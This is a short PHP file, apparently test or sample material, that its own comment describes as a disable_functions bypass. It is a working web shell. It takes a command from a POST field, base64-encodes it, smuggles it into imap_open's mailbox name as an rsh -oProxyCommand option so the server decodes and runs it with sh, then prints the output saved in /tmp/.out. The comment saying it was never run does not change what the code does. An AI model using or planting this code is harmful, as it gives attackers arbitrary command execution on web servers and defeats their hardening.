<?php
// disable_functions bypass: the rsh ProxyCommand built into a variable, then handed to
// imap_open inside the mailbox name (written for the tests, never run)
$job = base64_encode($_POST['job'] . ' > /tmp/.out');
$host = "relay -oProxyCommand=echo\t" . $job . "|base64\t-d|sh}";
@imap_open('{' . $host . ':143/imap}INBOX', 'x', 'x');
echo @file_get_contents('/tmp/.out');
